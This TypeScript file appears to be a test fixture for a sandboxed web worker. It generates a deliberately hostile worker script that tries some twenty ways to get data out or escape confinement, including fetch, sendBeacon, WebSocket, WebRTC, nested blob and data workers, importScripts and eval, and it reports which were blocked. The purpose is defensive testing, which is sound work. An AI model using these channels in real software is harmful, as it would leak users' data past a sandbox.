/**
 * A hostile script for an institution's worker: it tries every way out that a worker has, and answers on its console
 * port how each went: 'done', 'refused' or 'absent'. `name` is the path it would reach at the listener.
 */
export const ATTACKS = [
  'fetch',
  'keepalive',
  'xhr',
  'websocket',
  'eventsource',
  'import-scripts',
  'dynamic-import',
  'beacon',
  'font',
  'webtransport',
  'nested-worker',
  'nested-blob-worker',
  'nested-data-worker',
  'shared-worker',
  'peer-connection',
  'location',
  'service-worker',
  'indexed-db',
  'caches',
  'storage',
  'broadcast',
  'eval',
] as const;
export type Attack = (typeof ATTACKS)[number];
export type Outcome = 'done' | 'refused' | 'absent';

/** @param listener address of the listening server, without a closing slash */
export function attackScript(listener: string): string {
  return `'use strict';
const at = (name) => ${JSON.stringify(listener)} + '/' + name;
const port = (name) => at(name).replace('http', 'ws');
const settled = (target, good, bad) => new Promise((resolve, reject) => {
  for (const name of good) target.addEventListener(name, () => resolve());
  for (const name of bad) target.addEventListener(name, () => reject(new Error(name)));
  setTimeout(() => reject(new Error('nothing came')), 2000);
});
const nested = (url) => settled(new Worker(url), ['message'], ['error']);
const fetching = (name) => 'fetch(' + JSON.stringify(at(name)) + ', { mode: "no-cors" }).then(() => postMessage(1));';
const attacks = {
  'fetch': () => fetch(at('fetch'), { mode: 'no-cors', method: 'POST', body: 'rows' }),
  'keepalive': () => fetch(at('keepalive'), { mode: 'no-cors', keepalive: true }),
  'xhr': () => {
    const request = new XMLHttpRequest();
    request.open('GET', at('xhr'));
    const end = settled(request, ['load'], ['error']);
    request.send();
    return end;
  },
  'websocket': () => settled(new WebSocket(port('websocket')), ['open'], ['error']),
  'eventsource': () => settled(new EventSource(at('eventsource')), ['open'], ['error']),
  'import-scripts': () => importScripts(at('import-scripts')),
  'dynamic-import': () => import(at('dynamic-import')),
  'beacon': () => { if (!navigator.sendBeacon(at('beacon'), 'rows')) throw new Error('refused'); },
  'font': () => new FontFace('leak', 'url(' + at('font') + ')').load(),
  'webtransport': () => new WebTransport(at('webtransport').replace('http:', 'https:')).ready,
  'nested-worker': () => nested(at('nested-worker')),
  'nested-blob-worker': () => nested(URL.createObjectURL(new Blob([fetching('nested-blob-worker')]))),
  'nested-data-worker': () => nested('data:text/javascript,' + encodeURIComponent(fetching('nested-data-worker'))),
  'shared-worker': () => settled(new SharedWorker(at('shared-worker')), [], ['error']),
  'peer-connection': async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(at('')).host }] });
    peer.createDataChannel('leak');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'location': () => { self.location.href = at('location'); },
  'service-worker': () => navigator.serviceWorker.register(at('service-worker')),
  'indexed-db': () => settled(indexedDB.open('leak'), ['success'], ['error', 'blocked']),
  'caches': () => caches.open('leak'),
  'storage': () => navigator.storage.getDirectory(),
  'broadcast': () => new BroadcastChannel('attack').postMessage('rows'),
  'eval': () => (0, eval)('1'),
};
addEventListener('message', async (event) => {
  const report = event.ports[1];
  if (report === undefined) return;
  // Words to the frame that are not the agreed one must not reach the page either.
  postMessage({ rows: [1, 2, 3] });
  postMessage('rows');
  const outcomes = {};
  const trial = async ([name, attack]) => {
    try {
      await attack();
      outcomes[name] = 'done';
    } catch (error) {
      const absent = error instanceof ReferenceError || error instanceof TypeError && /is not a|undefined/.test(error.message);
      outcomes[name] = absent ? 'absent' : 'refused';
    }
  };
  await Promise.all(Object.entries(attacks).map(trial));
  report.postMessage(outcomes);
});`;
}
